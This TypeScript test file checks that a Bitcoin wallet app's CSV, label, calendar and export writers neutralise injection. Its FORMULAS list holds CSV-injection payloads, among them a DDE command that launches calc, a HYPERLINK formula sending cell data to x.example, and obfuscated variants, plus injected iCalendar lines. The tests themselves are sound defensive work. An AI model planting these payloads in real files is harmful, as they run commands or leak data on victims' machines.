import { describe, expect, it } from 'vitest';
import { readLabels } from '../../../main/domain/labels/read-labels.ts';
import type { WalletLabel } from '../../../main/domain/labels/wallet-label.ts';
import { writeLabels } from '../../../main/domain/labels/write-labels.ts';
import { planCalendar } from '../../../main/domain/plan/plan-calendar.ts';
import { writeHeld } from '../../../main/domain/history/held-text.ts';
import { readPriceFile } from '../../../main/domain/prices/read-price-file.ts';
import { writeAddresses } from '../../../main/domain/wallet/exports/addresses-csv-export.ts';
import { EXPORT_FORMATS } from '../../../main/domain/wallet/exports/export-formats.ts';
import { viewWalletChain } from '../../../main/ipc/view-wallet-chain.ts';
import { writeChainTable } from '../../../main/ipc/write-chain-table.ts';
import { writeHistoryFile } from '../../../main/ipc/write-history-file.ts';
import { writePriceFile } from '../../../main/ipc/write-price-file.ts';
import { exportText, walletOf } from '../../unit/domain/wallet/exports/export-texts.ts';
import {
  addressOf,
  AT,
  inBlock,
  known,
  own,
  pay,
} from '../../unit/domain/wallet-chain/made-chain.ts';

/** Texts that a spreadsheet works out, and those that hide one from whoever looks at the first sign only. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-1+cmd',
  '@SUM(1+1)',
  '|calc',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－x',
  '＠SUM(1)',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\0=1+1',
  '\x1b=1+1',
  '"=1+1',
  '""=1+1',
  'a;=1+1',
  'a;"=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n@SUM(1)',
  'a;\u200b -x',
  '=HYPERLINK("http://x.example/?"&A1,"Click")',
];

/** The account of BIP-84's test vectors. */
const wallet = walletOf(
  'wpkh([73c5da0a/84h/0h/0h]xpub6CatWdiZiodmUeTDp8LT5or8nmbKNcuyvz7WyksVFkKB4RHwCD3XyuvPEbvqAQY3rAPshWcMLoP2fMFMKHPJ4ZeZXYVUhLv1VMrjPC7PW6V/<0;1>/*)',
);
const first = addressOf('receive', 0, '0014751e76e8199196d454941c45d1b3a323f1433bd6');
const deposit = pay([1], [[first, 150_000_000]]);

const label = (type: WalletLabel['type'], ref: string, text: string): WalletLabel => ({
  type,
  ref,
  label: text,
  origin: null,
  spendable: null,
  extra: {},
});

function chainTable(table: 'coins' | 'history', text: string): string {
  const labels = [label('tx', deposit.txid, text), label('output', `${deposit.txid}:0`, text)];
  const saved = { id: 'w', network: 'mainnet', gapLimit: 20, labels } as const;
  const found = known([inBlock(deposit, 100)], { addresses: [first, own('change', 0)] });
  const how = { locale: 'en', at: AT, watchedSince: null, followFault: null } as const;
  return (
    writeChainTable(viewWalletChain(saved, found, how), table, { name: text, locale: 'en' }).text ??
    ''
  );
}

/** Every writer of a table, with a text of a stranger where it takes one. */
const WRITERS: readonly (readonly [string, (text: string) => string])[] = [
  ['the list of addresses', (text) => {
    const [one] = [...writeAddresses(wallet, 1)].join('').split('\r\n').slice(1);
    const labels = [label('addr', one?.split(',')[2] ?? '', text)];
    return [...writeAddresses(wallet, 1, labels)].join('');
  }],
  ['the coins of a wallet', (text) => chainTable('coins', text)],
  ['the history of a wallet', (text) => chainTable('history', text)],
  ['what was held', (text) => {
    const holder = { kind: 'venue', id: text, name: text, custody: 'exchange_spot', riskGroup: '', ownToken: null } as const;
    const held = writeHeld([{ holder, asset: text, arrangement: 'spot', amount: '1' }]);
    return writeHistoryFile({ table: 'holdings', format: 'csv', snapshots: [], holdings: [{ day: '2026-11-30', held }] }).text ?? '';
  }],
  ['prices', (text) => priceFile(text)],
]; // prettier-ignore

function priceFile(fileName: string): string {
  const file = `asset,currency,price,at\nBTC,EUR,80000.5,2026-11-29\n`;
  const read = readPriceFile(new TextEncoder().encode(file), Date.UTC(2026, 10, 30));
  if (!read.ok) throw new Error(read.error.code);
  const { series } = read.value;
  const priceFiles = [{ id: 'p', fileName, committedAt: AT, series }];
  return writePriceFile({ prices: [], priceFeeds: [], priceFiles }).text ?? '';
}

/**
 * The cells as a spreadsheet finds them that takes `mark` between cells: quotes count where a cell begins with them, and
 * are otherwise signs like others.
 */
function cellsOf(text: string, mark: string): readonly string[] {
  const cell = new RegExp(
    `(?:"((?:[^"]|"")*)"?)?([^${mark}\\r\\n]*)(?:${mark}|\\r\\n|\\r|\\n|$)`,
    'gy',
  );
  return Array.from(
    text.matchAll(cell),
    ([, quoted = '', rest = '']) => quoted.replaceAll('""', '"') + rest,
  );
}

/** As OWASP lists them (CSV injection), behind anything that nobody sees. */
const isWorkedOut = (cell: string): boolean =>
  /^[\p{C}\p{Z}"]*[=+@|＝＋－＠]/u.test(cell) ||
  /^[\p{C}\p{Z}"]*-(?![\d.]+$)/u.test(cell) ||
  /^[\t\r\n]/.test(cell);

describe.each(WRITERS)('%s', (_name, write) => {
  it.each([',', ';', '\t'])('has nothing to work out where cells end at %j', (mark) => {
    const bad = FORMULAS.flatMap((text) => cellsOf(write(text), mark).filter(isWorkedOut));
    expect(bad).toEqual([]);
  });

  it('keeps all of a text but for apostrophes', () => {
    const bare = (text: string) => text.replaceAll("'", '');
    const lost = FORMULAS.filter(
      (text) => !cellsOf(write(text), ',').some((cell) => bare(cell) === bare(text)),
    );
    expect(lost).toEqual([]);
  });
});

describe('what is no table', () => {
  it('labels of BIP-329 come back as they were', () => {
    const labels = FORMULAS.map((text, at) => label('tx', at.toString(16).padStart(64, '0'), text));
    const read = readLabels(writeLabels(labels));
    expect(read.ok && read.value.labels).toEqual(labels);
  });

  it('a calendar has the days that were given, and no more', () => {
    const text = FORMULAS.map(
      (one) => `${one}\r\nEND:VEVENT\r\nBEGIN:VEVENT\nATTACH:file:///x`,
    ).join();
    const day = { uid: text, day: '2026-12-01', summary: text, description: text };
    const lines = planCalendar(text, [day], AT).split('\r\n');
    expect(lines.filter((line) => line === 'BEGIN:VEVENT')).toHaveLength(1);
    expect(lines.filter((line) => line.startsWith('ATTACH'))).toEqual([]);
    expect(lines.every((line) => !/\p{Cc}/u.test(line))).toBe(true);
  });

  // The list of addresses takes no name.
  const named = EXPORT_FORMATS.map(({ id }) => id).filter((id) => id !== 'addresses_csv');
  it.each(named)('the name of a wallet adds no line to %s', (id) => {
    const lines = (name: string) => exportText(wallet, id, name).split(/\r\n|\r|\n/).length;
    expect(lines('a\r\nPolicy: 1 of 9\n# b\n"},"x":{"y":"')).toBe(lines('a'));
  });
});
